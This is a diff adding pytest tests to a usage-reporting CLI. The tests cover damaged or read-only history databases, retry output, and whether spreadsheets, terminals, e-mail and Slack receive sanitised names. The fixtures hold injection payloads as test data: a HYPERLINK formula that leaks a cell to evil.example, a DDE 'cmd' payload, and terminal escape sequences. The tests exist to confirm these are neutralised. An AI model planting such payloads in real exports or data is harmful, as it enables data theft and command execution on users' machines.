@@ -389,3 +389,270 @@ def test_absurd_credits_are_one_line_exit_1(org, capsys) -> None:
     assert code == 1
     assert_one_line(err)
     assert "total_credits is out of range" in err
+
+
+# --- history database --------------------------------------------------------------------------
+
+
+@pytest.fixture()
+def history(org, capsys) -> Path:
+    """A config whose history database has been synced once; returns the config path."""
+    db = Path.cwd() / "history.db"
+    config = Path("c.yaml")
+    config.write_text(f"storage: {{path: {db}}}\nhistory: {{backfill: 1d}}\n"
+                      "reports: {daily: {to: [stdout]}, weekly: {to: [stdout]}}\n")
+    code, _, err = cli(capsys, "--config", str(config), "sync")
+    assert code == 0, err
+    return config
+
+
+def damage(db: Path, sql: str) -> None:
+    import sqlite3
+
+    conn = sqlite3.connect(db)
+    with conn:
+        conn.execute(sql)
+    conn.close()
+
+
+def test_history_with_a_dropped_table_is_one_line_exit_1(history: Path, capsys) -> None:
+    damage(Path("history.db"), "DROP TABLE activity")
+    for argv in (["report", "--from", str(YESTERDAY - dt.timedelta(days=40))],
+                 ["send", "daily", "--dry-run"]):
+        code, out, err = cli(capsys, "--config", str(history), *argv)
+        assert code == 1, err
+        assert_one_line(err)
+        assert "history database" in err and "no such table: activity" in err
+
+
+def test_history_with_a_non_numeric_money_cell_is_one_line_exit_1(history: Path, capsys) -> None:
+    damage(Path("history.db"), "UPDATE activity SET usage = 'lots'")
+    code, out, err = cli(capsys, "--config", str(history), "send", "daily", "--dry-run")
+    assert code == 1 and out == ""
+    assert_one_line(err)
+    assert "history database is damaged: a row of activity cannot be read" in err
+
+
+@pytest.fixture()
+def read_only() -> Iterator[list[Path]]:
+    """Paths added to the list are made read-only (chmod; for root, which chmod does not
+    stop, the immutable attribute) and writable again afterwards."""
+    import os
+    import shutil
+    import subprocess
+
+    paths: list[Path] = []
+    yield paths
+    if os.geteuid() == 0 and shutil.which("chattr"):
+        subprocess.run(["chattr", "-i", *map(str, paths)], check=False)
+    for path in paths:
+        path.chmod(0o755 if path.is_dir() else 0o644)
+
+
+def make_read_only(paths: list[Path], *targets: Path) -> None:
+    import os
+    import shutil
+    import subprocess
+
+    paths.extend(targets)
+    for path in targets:
+        path.chmod(0o555 if path.is_dir() else 0o444)
+    if os.geteuid() == 0:
+        if not shutil.which("chattr") or subprocess.run(
+                ["chattr", "+i", *map(str, targets)], capture_output=True).returncode:
+            pytest.skip("running as root without chattr: no way to make a file read-only")
+    try:
+        (targets[-1] / "probe").write_text("x")
+    except OSError:
+        return
+    pytest.skip("this file system cannot be made read-only here")
+
+
+def test_report_reads_a_read_only_history_database(org, read_only, capsys, monkeypatch) -> None:
+    import subprocess
+    import sys
+
+    folder = Path("ro")
+    folder.mkdir()
+    db = folder / "history.db"
+    Path("c.yaml").write_text(f"storage: {{path: {db.resolve()}}}\nhistory: {{backfill: 1d}}\n")
+    # a sync in its own process, so that it closes the database (and its WAL files) on exit
+    env = {**__import__("os").environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
+    done = subprocess.run([sys.executable, "-m", "bot", "--config", "c.yaml", "sync"],
+                          env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert sorted(p.name for p in folder.iterdir()) == ["history.db"]
+    make_read_only(read_only, db, folder)
+    start = YESTERDAY - dt.timedelta(days=35)
+    code, out, err = cli(capsys, "--config", "c.yaml", "report", "--from", str(start), "--json")
+    assert code == 0, err
+    assert json.loads(out)["period"]["from"] == str(start)
+    assert sorted(p.name for p in folder.iterdir()) == ["history.db"]  # nothing written
+
+
+def test_digest_for_a_day_the_history_lacks_says_so_and_sends_nothing(history: Path,
+                                                                      capsys) -> None:
+    old = YESTERDAY - dt.timedelta(days=400)
+    for argv in (["send", "daily", "--date", str(old)],
+                 ["send", "weekly", "--date", str(old), "--dry-run"]):
+        code, out, err = cli(capsys, "--config", str(history), *argv)
+        assert code == 1 and out == "", out
+        assert_one_line(err)
+        assert f"history has no data for {old - dt.timedelta(days=6) if 'weekly' in argv else old}" \
+            in err and "Nothing was sent" in err
+        assert "No spend" not in out + err
+
+
+# --- what reaches spreadsheets, terminals, e-mail and Slack ------------------------------------
+
+FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
+TERMINAL_KEY = "ops\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eyek-evil\r\nsecond line"
+SLACK_KEY = "*boss* _it_ ~gone~ `code` ci_runner"
+CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
+
+
+@pytest.fixture()
+def world(org, fake_slack, smtp_server, capsys, monkeypatch) -> dict[str, object]:
+    """The org with hostile names, Slack and SMTP fakes, and a config delivering to them."""
+    row = org.activity_rows[0]
+    row.update(model=FORMULA_MODEL, provider_name="+cmd|' /C calc'!A0",
+               model_permaslug="@SUM(1+1)", endpoint_id="-2+3")
+    org.keys[1]["name"] = TERMINAL_KEY
+    org.keys[2]["name"] = SLACK_KEY
+    org.analytics_status = 404  # history from /activity alone: no analytics to compare
+    monkeypatch.setenv("SLACK_BOT_TOKEN", fake_slack.token)
+    Path("c.yaml").write_text(f"""
+storage: {{path: {Path.cwd() / "history.db"}}}
+history: {{backfill: 1d}}
+slack: {{token: "${{SLACK_BOT_TOKEN}}", base_url: "{fake_slack.base_url}"}}
+email: {{host: 127.0.0.1, port: {smtp_server.port}, security: none, from: usage@example.com}}
+reports:
+  daily: {{to: ["slack:#ops"], top: 20}}
+  weekly: {{to: ["email:finance@example.com"], top: 20}}
+alerts:
+  rules: [{{kind: low_credits, below_usd: 1000000, to: ["slack:#alerts"]}}]
+""")
+    monkeypatch.setenv("OPENROUTER_USAGE_CONFIG", str(Path("c.yaml").resolve()))
+    return {"or": org, "slack": fake_slack, "smtp": smtp_server}
+
+
+def test_report_csv_neutralises_formula_cells_and_keeps_numbers(world, capsys) -> None:
+    import csv
+    import io
+
+    org = world["or"]
+    org.activity_rows[1]["usage"] = -0.5  # a refund: data, not a formula
+    code, out, err = cli(capsys, "report", "--csv", "--no-credits")
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    evil = next(r for r in rows if "HYPERLINK" in r["model"])
+    assert evil["model"] == "'" + FORMULA_MODEL
+    assert evil["provider"].startswith("'+") and evil["model_permaslug"] == "'@SUM(1+1)"
+    assert evil["endpoint_id"] == "'-2+3"
+    assert "-0.5" in {r["usage"] for r in rows}  # numbers are written as numbers
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
+
+
+def test_weekly_csv_attachment_neutralises_formula_cells(world, capsys) -> None:
+    import csv
+    import io
+
+    code, out, err = cli(capsys, "send", "weekly")
+    assert code == 0, err
+    [mail] = world["smtp"].messages
+    [attachment] = [p for p in mail.message.iter_attachments()
+                    if p.get_content_type() == "text/csv"]
+    rows = list(csv.DictReader(io.StringIO(attachment.get_content())))
+    evil = next(r for r in rows if "HYPERLINK" in r["model"])
+    assert evil["model"] == "'" + FORMULA_MODEL and evil["provider"].startswith("'+")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows for cell in r.values() if not _number(cell))
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_terminal_controls_in_names_never_reach_the_terminal_or_the_email(world,
+                                                                           capsys) -> None:
+    code, text, err = cli(capsys, "report", "--by-key")
+    assert code == 0, err
+    assert "yek-evil" in text
+    code, doc, err = cli(capsys, "report", "--by-key", "--json")
+    assert code == 0, err
+    assert TERMINAL_KEY in {k["key"] for k in json.loads(doc)["by_key"]}  # the data is intact
+    code, digest, err = cli(capsys, "send", "daily", "--to", "stdout")
+    assert code == 0, err
+    code, _, err = cli(capsys, "send", "weekly")
+    assert code == 0, err
+    [mail] = world["smtp"].messages
+    # (MIME lines end in CRLF: that \r is the mail's, not a name's)
+    body = mail.message.get_body(("plain",)).get_content().replace("\r\n", "\n")
+    html = mail.message.get_body(("html",)).get_content().replace("\r\n", "\n")
+    assert "yek-evil" in body
+    for output in (text, doc, digest, body, html, err):
+        for char in CONTROLS:
+            assert char not in output, (char, output[:200])
+
+
+def test_slack_formatting_marks_in_names_format_nothing(world, capsys) -> None:
+    code, out, err = cli(capsys, "send", "daily")
+    assert code == 0, err
+    [post] = world["slack"].posts
+    blocks = post["blocks"] if not isinstance(post["blocks"], str) else json.loads(post["blocks"])
+    text = post.get("text", "") + json.dumps(blocks, ensure_ascii=False)
+    assert "∗boss∗ ˍitˍ ∼gone∼ ˋcodeˋ ci_runner" in text  # look-alikes that format nothing
+    for raw in ("*boss*", "_it_", "~gone~", "`code`"):
+        assert raw not in text
+    assert "<!channel>" not in text
+
+
+# --- status lines and retry chatter ------------------------------------------------------------
+
+
+def test_a_digest_sent_by_this_run_is_not_also_called_already_sent(world, capsys) -> None:
+    world["slack"].fail_next("chat.postMessage", 429, headers={"Retry-After": "700"})
+    code, out, err = cli(capsys, "send", "daily")
+    assert code == 1 and "slack:#ops: failed" in out
+    later = NOW + dt.timedelta(minutes=2)
+    code = main(["send", "daily"], now=lambda: later, sleep=no_wait)
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    [line] = [line for line in out.splitlines() if "slack:#ops" in line]  # one line, which
+    assert line.startswith(f"daily {YESTERDAY}: slack:#ops: sent")  # says what happened
+    assert "already sent" not in out
+    assert len(world["slack"].posts) == 1
+
+
+def test_alerts_after_delivering_pending_alerts_says_so(world, capsys) -> None:
+    world["slack"].fail_next("chat.postMessage", 429, headers={"Retry-After": "700"})
+    code, out, err = cli(capsys, "alerts")
+    assert code == 1 and "FIRE" in out and "failed" in out
+    later = NOW + dt.timedelta(minutes=2)
+    code = main(["alerts"], now=lambda: later, sleep=no_wait)
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    assert "slack:#alerts: sent" in out and "nothing changed" not in out
+    assert len(world["slack"].posts) == 1
+    code, out, err = cli(capsys, "alerts")
+    assert "nothing changed" in out
+
+
+def test_retries_are_quiet_without_verbose(world, capsys) -> None:
+    world["or"].fail_next("/credits", 503, n=2)
+    code, out, err = cli(capsys, "report")
+    assert code == 0 and err == ""
+    world["or"].fail_next("/credits", 503, n=2)
+    code, out, err = cli(capsys, "-v", "report")
+    assert code == 0 and err.count("retrying in") == 2
+
+
+def test_a_failed_delivery_is_one_stderr_line_at_most(world, capsys) -> None:
+    world["slack"].fail_next("chat.postMessage", 503, n=10)
+    code, out, err = cli(capsys, "send", "daily")
+    assert code == 1 and "slack:#ops: failed" in out
+    assert err.count("\n") <= 1, err
